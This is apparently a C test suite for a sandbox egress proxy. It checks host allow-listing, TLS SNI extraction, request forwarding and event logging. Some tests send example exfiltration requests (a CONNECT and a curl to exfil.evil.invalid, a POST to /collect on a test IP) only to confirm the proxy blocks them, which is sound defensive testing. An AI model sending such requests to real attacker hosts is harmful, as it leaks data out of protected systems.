/*
 * test_proxy.c - the recording proxy for real: its policy, a TLS
 * ClientHello's server name, requests through it on this host (CONNECT,
 * plain HTTP, refused, unreachable), and a sandbox in network mode proxy
 * whose curl downloads through it while a direct connect fails. The
 * sandbox case needs root (cgroups, namespaces).
 */
#include <arpa/inet.h>
#include <check.h>
#include <errno.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fangs/fangs.h"
#include "proxy/internal.h"

/* ---- a server on this host's loopback: answers GET with a body, anything
 * else (a TLS hello) with "pong"; remembers what it got ---- */

#define BODY "0123456789abcdef-the-downloaded-binary\n"

typedef struct upstream {
	int fd;
	uint16_t port;
	pthread_t thread;
	char got[65536];
	size_t got_len;
	int served;
} upstream;

static void *upstream_main(void *arg)
{
	upstream *u = arg;
	for (;;) {
		int c = accept(u->fd, NULL, NULL);
		ssize_t n;
		if (c < 0)
			break;
		n = recv(c, u->got, sizeof(u->got) - 1, 0);
		u->got_len = n > 0 ? (size_t)n : 0;
		u->got[u->got_len] = '\0';
		if (n > 4 && !memcmp(u->got, "GET ", 4)) {
			char resp[256];
			int k = snprintf(resp, sizeof(resp), "HTTP/1.0 200 OK\r\nContent-Length: %zu\r\n\r\n%s",
					 strlen(BODY), BODY);
			ck_assert_int_eq(send(c, resp, (size_t)k, MSG_NOSIGNAL), k);
		} else if (n > 0) {
			ck_assert_int_eq(send(c, "pong", 4, MSG_NOSIGNAL), 4);
		}
		close(c);
		__atomic_add_fetch(&u->served, 1, __ATOMIC_SEQ_CST);
	}
	return NULL;
}

static void upstream_start(upstream *u)
{
	struct sockaddr_in sa;
	socklen_t sl = sizeof(sa);
	memset(u, 0, sizeof(*u));
	u->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ck_assert_int_ge(u->fd, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	ck_assert_int_eq(bind(u->fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	ck_assert_int_eq(listen(u->fd, 16), 0);
	ck_assert_int_eq(getsockname(u->fd, (struct sockaddr *)&sa, &sl), 0);
	u->port = ntohs(sa.sin_port);
	ck_assert_int_eq(pthread_create(&u->thread, NULL, upstream_main, u), 0);
}

static void upstream_stop(upstream *u)
{
	shutdown(u->fd, SHUT_RDWR);
	pthread_join(u->thread, NULL);
	close(u->fd);
}

/* ---- a real ClientHello, from GnuTLS, captured instead of sent ---- */

typedef struct capture {
	unsigned char data[16384];
	size_t len;
	gnutls_session_t s;
} capture;

static ssize_t cap_push(gnutls_transport_ptr_t p, const void *data, size_t len)
{
	capture *c = p;
	if (len > sizeof(c->data) - c->len)
		len = sizeof(c->data) - c->len;
	memcpy(c->data + c->len, data, len);
	c->len += len;
	return (ssize_t)len;
}

static ssize_t cap_pull(gnutls_transport_ptr_t p, void *data, size_t len)
{
	capture *c = p;
	(void)data;
	(void)len;
	gnutls_transport_set_errno(c->s, EAGAIN);
	return -1;
}

static void client_hello(capture *c, const char *server_name)
{
	gnutls_certificate_credentials_t cred;
	memset(c, 0, sizeof(*c));
	ck_assert_int_eq(gnutls_certificate_allocate_credentials(&cred), 0);
	ck_assert_int_eq(gnutls_init(&c->s, GNUTLS_CLIENT | GNUTLS_NONBLOCK), 0);
	ck_assert_int_eq(gnutls_set_default_priority(c->s), 0);
	ck_assert_int_eq(gnutls_credentials_set(c->s, GNUTLS_CRD_CERTIFICATE, cred), 0);
	if (server_name)
		ck_assert_int_eq(gnutls_server_name_set(c->s, GNUTLS_NAME_DNS, server_name, strlen(server_name)), 0);
	gnutls_transport_set_ptr(c->s, c);
	gnutls_transport_set_push_function(c->s, cap_push);
	gnutls_transport_set_pull_function(c->s, cap_pull);
	ck_assert_int_eq(gnutls_handshake(c->s), GNUTLS_E_AGAIN);
	ck_assert_uint_gt(c->len, 100);
	gnutls_deinit(c->s);
	gnutls_certificate_free_credentials(cred);
}

/* ---- policy ---- */

START_TEST(test_policy)
{
	fangs_proxy *px;
	fangs_proxy_options o = FANGS_PROXY_OPTIONS_INIT;
	const char *mine[] = {"dl.example.com", "*.cdn.example.net", "files.example.org:8443",
			      "127.0.0.1:*",    "[2001:db8::5]:*",   NULL};
	o.allow_hosts = mine;
	o.registry = "https://user:pw@registry.example:4873/npm/";
	ck_assert_msg(fangs_proxy_new(&px, &o) == 0, "%s", fangs_error_last());
	/* the built-in data file */
	ck_assert(strstr(fangs_proxy_builtin_hosts(), "\nobjects.githubusercontent.com\n") != NULL);
	ck_assert_int_eq(fangs_proxy_allows(px, "github.com", 443), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "GitHub.COM.", 443), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "github.com", 80), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "github.com", 22), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "evil-github.com", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "x.github.com", 443), 0);
	/* the configuration's */
	ck_assert_int_eq(fangs_proxy_allows(px, "dl.example.com", 443), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "a.b.cdn.example.net", 443), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "cdn.example.net", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "files.example.org", 8443), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "files.example.org", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "127.0.0.1", 1), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "2001:db8::5", 9), 1);
	/* the registry's host and port, not its credentials */
	ck_assert_int_eq(fangs_proxy_allows(px, "registry.example", 4873), 1);
	ck_assert_int_eq(fangs_proxy_allows(px, "registry.example", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "evil.invalid", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "", 443), 0);
	fangs_proxy_free(px);

	o.no_builtin_hosts = 1;
	o.registry = NULL;
	ck_assert_int_eq(fangs_proxy_new(&px, &o), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "github.com", 443), 0);
	ck_assert_int_eq(fangs_proxy_allows(px, "dl.example.com", 443), 1);
	fangs_proxy_free(px);

	ck_assert_int_eq(fangs_proxy_host_pattern_validate("ok.example:*"), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_validate("bad host"), FANGS_EINVAL);
	ck_assert_int_eq(fangs_proxy_host_pattern_validate("x.example:0"), FANGS_EINVAL);
	ck_assert_int_eq(fangs_proxy_host_pattern_validate("a.*.example"), FANGS_EINVAL);
	ck_assert_int_eq(fangs_proxy_host_pattern_validate(""), FANGS_EINVAL);
	/* one pattern, as the policy compares; a negative port is a lookup */
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", "GitHub.com.", 443), 1);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", "github.com", -1), 1);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", "github.com", 22), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", "x.github.com", -1), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("*.cdn.example.net", "a.cdn.example.net", 80), 1);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("*.cdn.example.net", "cdn.example.net", -1), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("*.cdn.example.net", "evilcdn.example.net", -1), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("files.example.org:8443", "files.example.org", 8443), 1);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("files.example.org:8443", "files.example.org", 443), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("files.example.org:8443", "files.example.org", -1), 1);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("x.example:*", "x.example", 70000), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", "bad host", -1), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("github.com", NULL, -1), 0);
	ck_assert_int_eq(fangs_proxy_host_pattern_match("bad host", "github.com", -1), FANGS_EINVAL);
	mine[1] = "not a host";
	o.allow_hosts = mine;
	ck_assert_int_eq(fangs_proxy_new(&px, &o), FANGS_EINVAL);
	ck_assert(strstr(fangs_error_last(), "not a host") != NULL);
}
END_TEST

START_TEST(test_tls_sni)
{
	capture c;
	char name[256];
	client_hello(&c, "dl.fangs.test");
	ck_assert_int_eq(fangs__tls_sni(c.data, c.len, name, sizeof(name)), 1);
	ck_assert_str_eq(name, "dl.fangs.test");
	/* short of the record: more is needed */
	ck_assert_int_eq(fangs__tls_sni(c.data, 3, name, sizeof(name)), -1);
	ck_assert_int_eq(fangs__tls_sni(c.data, c.len - 1, name, sizeof(name)), -1);
	/* not TLS */
	ck_assert_int_eq(fangs__tls_sni((const unsigned char *)"GET / HTTP/1.1\r\n", 16, name, sizeof(name)), 0);
	/* a hello without the extension */
	client_hello(&c, NULL);
	ck_assert_int_eq(fangs__tls_sni(c.data, c.len, name, sizeof(name)), 0);
}
END_TEST

/* ---- through the proxy, on this host ---- */

static int dial(uint16_t port)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ck_assert_int_ge(fd, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	ck_assert_int_eq(connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	return fd;
}

/* Reads until EOF. */
static size_t read_all(int fd, char *buf, size_t cap)
{
	size_t have = 0;
	ssize_t n;
	while (have < cap - 1 && (n = recv(fd, buf + have, cap - 1 - have, 0)) > 0)
		have += (size_t)n;
	buf[have] = '\0';
	return have;
}

static void send_str(int fd, const char *s)
{
	ck_assert_int_eq(send(fd, s, strlen(s), MSG_NOSIGNAL), (ssize_t)strlen(s));
}

static fangs_proxy *local_proxy(void)
{
	fangs_proxy *px;
	fangs_proxy_options o = FANGS_PROXY_OPTIONS_INIT;
	const char *mine[] = {"127.0.0.1:*", "localhost:*", NULL};
	o.allow_hosts = mine;
	o.connect_timeout_ms = 2000;
	ck_assert_int_eq(fangs_proxy_new(&px, &o), 0);
	ck_assert_msg(fangs_proxy_listen(px, 0, "127.0.0.1", 0, NULL) == 0, "%s", fangs_error_last());
	ck_assert_uint_gt(fangs_proxy_port(px), 0);
	return px;
}

START_TEST(test_requests_on_this_host)
{
	upstream u;
	fangs_proxy *px;
	fangs_event_list evs = {0};
	capture hello;
	char buf[8192], req[512];
	int fd;
	size_t n;

	upstream_start(&u);
	px = local_proxy();
	client_hello(&hello, "dl.fangs.test");

	/* 1. CONNECT, then a TLS hello through the tunnel */
	fd = dial(fangs_proxy_port(px));
	snprintf(req, sizeof(req), "CONNECT 127.0.0.1:%u HTTP/1.1\r\nHost: 127.0.0.1:%u\r\n\r\n", u.port, u.port);
	send_str(fd, req);
	n = (size_t)recv(fd, buf, 39, MSG_WAITALL);
	ck_assert_uint_eq(n, 39);
	ck_assert(strncmp(buf, "HTTP/1.1 200 Connection established\r\n\r\n", 39) == 0);
	ck_assert_int_eq(send(fd, hello.data, hello.len, MSG_NOSIGNAL), (ssize_t)hello.len);
	ck_assert_uint_eq(read_all(fd, buf, sizeof(buf)), 4);
	ck_assert_str_eq(buf, "pong");
	close(fd);
	ck_assert_uint_eq(u.got_len, hello.len);
	ck_assert(memcmp(u.got, hello.data, hello.len) == 0);

	/* 2. plain HTTP with an absolute URI: forwarded in origin form */
	fd = dial(fangs_proxy_port(px));
	snprintf(req, sizeof(req),
		 "GET http://127.0.0.1:%u/dl/tool-1.2.3.tgz?arch=x64 HTTP/1.1\r\nHost: 127.0.0.1:%u\r\n"
		 "Proxy-Connection: keep-alive\r\nUser-Agent: t\r\n\r\n",
		 u.port, u.port);
	send_str(fd, req);
	read_all(fd, buf, sizeof(buf));
	ck_assert_msg(strncmp(buf, "HTTP/1.0 200 OK", 15) == 0, "%s", buf);
	ck_assert(strstr(buf, BODY) != NULL);
	close(fd);
	ck_assert_msg(strncmp(u.got, "GET /dl/tool-1.2.3.tgz?arch=x64 HTTP/1.1\r\n", 42) == 0, "%s", u.got);
	ck_assert(strstr(u.got, "Proxy-Connection") == NULL);
	ck_assert(strstr(u.got, "User-Agent: t\r\n") != NULL);
	ck_assert(strstr(u.got, "Connection: close\r\n") != NULL);

	/* 3. a host out of the policy: 403, nothing leaves */
	fd = dial(fangs_proxy_port(px));
	send_str(fd, "CONNECT exfil.evil.invalid:443 HTTP/1.1\r\nHost: exfil.evil.invalid:443\r\n\r\n");
	read_all(fd, buf, sizeof(buf));
	ck_assert_msg(strncmp(buf, "HTTP/1.1 403 ", 13) == 0, "%s", buf);
	close(fd);
	fd = dial(fangs_proxy_port(px));
	{
		/* a binary body in the same segment as the head */
		static const char post[] = "POST http://198.51.100.7/collect HTTP/1.1\r\nHost: 198.51.100.7\r\n"
					   "Content-Length: 4\r\n\r\n\0\1\0\2";
		ck_assert_int_eq(send(fd, post, sizeof(post) - 1, MSG_NOSIGNAL), (ssize_t)sizeof(post) - 1);
	}
	read_all(fd, buf, sizeof(buf));
	ck_assert_msg(strncmp(buf, "HTTP/1.1 403 ", 13) == 0, "%s", buf);
	close(fd);

	/* 4. allowed but nobody answers: 502 */
	{
		int closed = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in sa;
		socklen_t sl = sizeof(sa);
		memset(&sa, 0, sizeof(sa));
		sa.sin_family = AF_INET;
		sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		ck_assert_int_eq(bind(closed, (struct sockaddr *)&sa, sizeof(sa)), 0);
		ck_assert_int_eq(getsockname(closed, (struct sockaddr *)&sa, &sl), 0);
		fd = dial(fangs_proxy_port(px));
		snprintf(req, sizeof(req), "CONNECT localhost:%u HTTP/1.1\r\n\r\n", ntohs(sa.sin_port));
		send_str(fd, req);
		read_all(fd, buf, sizeof(buf));
		ck_assert_msg(strncmp(buf, "HTTP/1.1 502 ", 13) == 0, "%s", buf);
		close(fd);
		close(closed);
	}

	/* 5. not a proxy request: answered 400, recorded by its Host */
	fd = dial(fangs_proxy_port(px));
	send_str(fd, "GET /x HTTP/1.1\r\nHost: direct.example\r\n\r\n");
	read_all(fd, buf, sizeof(buf));
	ck_assert_msg(strncmp(buf, "HTTP/1.1 400 ", 13) == 0, "%s", buf);
	close(fd);

	fangs_proxy_stop(px);
	ck_assert_int_eq(fangs_proxy_take_events(px, &evs), 0);
	ck_assert_uint_eq(evs.count, 6);
	for (size_t i = 0; i < evs.count; i++) {
		/* each names this process: its socket was found by inode */
		ck_assert_int_eq(evs.items[i].kind, FANGS_EV_PROXY_REQUEST);
		ck_assert_int_eq(evs.items[i].pid, getpid());
		ck_assert_uint_gt(evs.items[i].ts_ns, 0);
	}
	/* events are queued as connections end: in order here */
	{
		const fangs_event *e = &evs.items[0];
		ck_assert_str_eq(e->method, "CONNECT");
		ck_assert_str_eq(e->host, "127.0.0.1");
		ck_assert_uint_eq(e->port, u.port);
		ck_assert_str_eq(e->sni, "dl.fangs.test");
		ck_assert_ptr_null(e->path);
		ck_assert_str_eq(e->addr, "127.0.0.1");
		ck_assert_uint_eq(e->bytes_out, hello.len);
		ck_assert_uint_eq(e->bytes_in, 4);
		ck_assert_int_eq(e->status, 200);
		ck_assert_int_eq(e->allowed, 1);

		e = &evs.items[1];
		ck_assert_str_eq(e->method, "GET");
		ck_assert_str_eq(e->path, "/dl/tool-1.2.3.tgz?arch=x64");
		ck_assert_ptr_null(e->sni);
		ck_assert_int_eq(e->status, 200);
		ck_assert_int_eq(e->allowed, 1);
		ck_assert_uint_eq(e->bytes_out, u.got_len);
		ck_assert_uint_gt(e->bytes_in, strlen(BODY));

		e = &evs.items[2];
		ck_assert_str_eq(e->host, "exfil.evil.invalid");
		ck_assert_uint_eq(e->port, 443);
		ck_assert_int_eq(e->status, 403);
		ck_assert_int_eq(e->allowed, 0);
		ck_assert_uint_eq(e->bytes_out, 0);
		ck_assert_ptr_null(e->addr);

		e = &evs.items[3];
		ck_assert_str_eq(e->method, "POST");
		ck_assert_str_eq(e->host, "198.51.100.7");
		ck_assert_uint_eq(e->port, 80);
		ck_assert_str_eq(e->path, "/collect");
		ck_assert_int_eq(e->allowed, 0);

		e = &evs.items[4];
		ck_assert_str_eq(e->host, "localhost");
		ck_assert_int_eq(e->status, 502);
		ck_assert_int_eq(e->allowed, 1);

		e = &evs.items[5];
		ck_assert_str_eq(e->host, "direct.example");
		ck_assert_int_eq(e->status, 400);
		ck_assert_int_eq(e->allowed, 0);
	}
	/* the codec keeps every field */
	for (size_t i = 0; i < evs.count; i++) {
		char *json;
		fangs_event back = {0};
		char *again;
		ck_assert_int_eq(fangs_event_to_json(&evs.items[i], &json, NULL), 0);
		ck_assert_msg(fangs_event_from_json(&back, json, strlen(json)) == 0, "%s: %s", json,
			      fangs_error_last());
		ck_assert_int_eq(fangs_event_to_json(&back, &again, NULL), 0);
		ck_assert_str_eq(json, again);
		ck_assert_uint_eq(back.bytes_out, evs.items[i].bytes_out);
		ck_assert_int_eq(back.allowed, evs.items[i].allowed);
		free(json);
		free(again);
		fangs_event_clear(&back);
	}
	ck_assert_uint_eq(u.served, 2);
	fangs_event_list_free(&evs);
	fangs_proxy_free(px);
	upstream_stop(&u);
}
END_TEST

/* A tunnel the client never closes ends when the proxy stops, and is recorded. */
START_TEST(test_stop_ends_open_tunnels)
{
	upstream u;
	fangs_proxy *px;
	fangs_event_list evs = {0};
	char buf[64], req[256];
	int fd;

	upstream_start(&u);
	px = local_proxy();
	fd = dial(fangs_proxy_port(px));
	snprintf(req, sizeof(req), "CONNECT 127.0.0.1:%u HTTP/1.1\r\n\r\n", u.port);
	send_str(fd, req);
	ck_assert_int_eq(recv(fd, buf, 39, MSG_WAITALL), 39);
	fangs_proxy_stop(px);
	ck_assert_int_eq(fangs_proxy_take_events(px, &evs), 0);
	ck_assert_uint_eq(evs.count, 1);
	ck_assert_int_eq(evs.items[0].status, 200);
	/* the proxy closed its end */
	ck_assert_int_eq(recv(fd, buf, sizeof(buf), 0), 0);
	close(fd);
	fangs_event_list_free(&evs);
	fangs_proxy_free(px);
	upstream_stop(&u);
}
END_TEST

/* ---- a sandbox in network mode proxy ---- */

static char root[256];

static void sb_setup(void)
{
	snprintf(root, sizeof(root), "/var/tmp/fangs-proxy-test-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(root));
	ck_assert_int_eq(chmod(root, 0755), 0);
}

static void sb_teardown(void)
{
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
	if (system(cmd) != 0)
		fprintf(stderr, "cannot remove %s\n", root);
}

START_TEST(test_sandbox_downloads_through_proxy)
{
	fangs_sandbox_options o = FANGS_SANDBOX_OPTIONS_INIT;
	fangs_sandbox_spec spec = FANGS_SANDBOX_SPEC_INIT;
	fangs_sandbox *sb;
	fangs_sandbox_run *run;
	fangs_sandbox_result r;
	fangs_proxy *px;
	fangs_proxy_options po = FANGS_PROXY_OPTIONS_INIT;
	const char *mine[] = {"127.0.0.1:*", NULL};
	fangs_event_list evs = {0};
	upstream u;
	char work[300], script[1024], rid[64];
	const char *addr = NULL;
	uint16_t port = 0;
	const char *argv[] = {"sh", "-c", script, NULL};

	upstream_start(&u);
	snprintf(work, sizeof(work), "%s/work", root);
	snprintf(rid, sizeof(rid), "t-proxy-%d", (int)getpid());
	o.work_root = work;
	o.duration_ms = 30000;
	o.grace_ms = 100;
	o.network = FANGS_SANDBOX_NET_PROXY;
	po.allow_hosts = mine;
	ck_assert_int_eq(fangs_proxy_new(&px, &po), 0);
	/* curl takes its proxy from the environment the sandbox sets; a
	 * direct connect (--noproxy) has no route to the host's server */
	snprintf(script, sizeof(script),
		 "echo proxy=$https_proxy; "
		 "curl -sS -o /tmp/got http://127.0.0.1:%u/dl/tool.bin && cat /tmp/got; "
		 "curl -sS https://exfil.evil.invalid/x; echo refused=$?; "
		 "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:%u/direct; echo direct=$?; "
		 "curl -sS --noproxy '*' --max-time 5 http://203.0.113.9/; echo testnet=$?",
		 u.port, u.port);
	spec.run_id = rid;
	spec.argv = argv;
	spec.proxy = px;
	ck_assert_msg(fangs_sandbox_new(&sb, &o) == 0, "%s", fangs_error_last());
	ck_assert_msg(fangs_sandbox_prepare(sb, &spec, &run) == 0, "%s", fangs_error_last());
	ck_assert_int_eq(fangs_sandbox_proxy_endpoint(run, &addr, &port), 0);
	ck_assert_str_eq(addr, "127.0.0.3");
	ck_assert_uint_eq(port, 3128);
	ck_assert_msg(fangs_sandbox_start(run) == 0, "%s", fangs_error_last());
	ck_assert_int_eq(fangs_sandbox_wait(run, &r), 0);
	fangs_proxy_stop(px);
	ck_assert_int_eq(fangs_proxy_take_events(px, &evs), 0);

	ck_assert_msg(strstr(r.output, "proxy=http://127.0.0.3:3128") != NULL, "%s", r.output);
	ck_assert_msg(strstr(r.output, BODY) != NULL, "%s", r.output);
	ck_assert_msg(strstr(r.output, "refused=56") != NULL, "%s", r.output);
	ck_assert_msg(strstr(r.output, "direct=7") != NULL, "%s", r.output);
	ck_assert_msg(strstr(r.output, "testnet=7") != NULL, "%s", r.output);
	/* the upstream saw only what came through the proxy */
	ck_assert_int_eq(u.served, 1);
	ck_assert_uint_eq(evs.count, 2);
	ck_assert_str_eq(evs.items[0].method, "GET");
	ck_assert_str_eq(evs.items[0].path, "/dl/tool.bin");
	ck_assert_int_eq(evs.items[0].allowed, 1);
	ck_assert_int_eq(evs.items[0].status, 200);
	ck_assert_uint_gt(evs.items[0].bytes_in, strlen(BODY));
	ck_assert_str_eq(evs.items[1].method, "CONNECT");
	ck_assert_str_eq(evs.items[1].host, "exfil.evil.invalid");
	ck_assert_int_eq(evs.items[1].allowed, 0);
	/* attributed to curl, in the run's cgroup, by its host pid */
	for (size_t i = 0; i < evs.count; i++) {
		ck_assert_int_gt(evs.items[i].pid, 1);
		ck_assert_ptr_nonnull(evs.items[i].comm);
		ck_assert_str_eq(evs.items[i].comm, "curl");
		ck_assert_int_ne(evs.items[i].pid, getpid());
	}
	ck_assert_int_ne(evs.items[0].pid, evs.items[1].pid);

	fangs_event_list_free(&evs);
	fangs_sandbox_result_clear(&r);
	fangs_sandbox_run_free(run);
	fangs_sandbox_free(sb);
	fangs_proxy_free(px);
	upstream_stop(&u);
}
END_TEST

START_TEST(test_sandbox_proxy_needs_a_proxy)
{
	fangs_sandbox_options o = FANGS_SANDBOX_OPTIONS_INIT;
	fangs_sandbox_spec spec = FANGS_SANDBOX_SPEC_INIT;
	fangs_sandbox *sb;
	fangs_sandbox_run *run = NULL;
	const char *argv[] = {"true", NULL};
	char work[300];
	fangs_sandbox_network net;
	snprintf(work, sizeof(work), "%s/work", root);
	o.work_root = work;
	o.network = FANGS_SANDBOX_NET_PROXY;
	spec.run_id = "t-proxy-none";
	spec.argv = argv;
	ck_assert_int_eq(fangs_sandbox_network_parse("proxy", &net), 0);
	ck_assert_int_eq(net, FANGS_SANDBOX_NET_PROXY);
	ck_assert_str_eq(fangs_sandbox_network_name(net), "proxy");
	ck_assert_int_eq(fangs_sandbox_new(&sb, &o), 0);
	ck_assert_int_eq(fangs_sandbox_prepare(sb, &spec, &run), FANGS_EINVAL);
	ck_assert(strstr(fangs_error_last(), "proxy") != NULL);
	fangs_sandbox_free(sb);
}
END_TEST

static Suite *proxy_suite(void)
{
	Suite *s = suite_create("proxy");
	TCase *tc = tcase_create("local");
	TCase *sbx = tcase_create("sandbox");
	tcase_add_test(tc, test_policy);
	tcase_add_test(tc, test_tls_sni);
	tcase_add_test(tc, test_requests_on_this_host);
	tcase_add_test(tc, test_stop_ends_open_tunnels);
	suite_add_tcase(s, tc);
	tcase_add_checked_fixture(sbx, sb_setup, sb_teardown);
	tcase_set_timeout(sbx, 120);
	tcase_add_test(sbx, test_sandbox_downloads_through_proxy);
	tcase_add_test(sbx, test_sandbox_proxy_needs_a_proxy);
	suite_add_tcase(s, sbx);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(proxy_suite());
	int failed;
	gnutls_global_init();
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	gnutls_global_deinit();
	return failed ? 1 : 0;
}
